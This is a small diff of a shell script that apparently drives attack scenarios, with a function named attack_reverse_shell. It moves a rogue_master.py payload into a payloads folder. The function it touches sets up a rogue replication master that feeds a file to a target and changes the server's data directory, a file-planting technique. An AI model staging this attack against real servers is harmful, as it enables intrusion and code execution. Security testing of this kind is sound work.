@@ -372,7 +372,7 @@ attack_reverse_shell() {
 
 # follow_rogue FILE DIR NAME: the attacker's server becomes the master, and gives a file in place of a data set.
 follow_rogue() {
-	nsenter -t "$peers_network_pid" -n python3 "$here/rogue_master.py" "$peer_address" 6666 "$1" &
+	nsenter -t "$peers_network_pid" -n python3 "$here/payloads/rogue_master.py" "$peer_address" 6666 "$1" &
 	children[$!]=1
 	until_true "$patience" port_listens 6666
 	cli config set dir "$2"
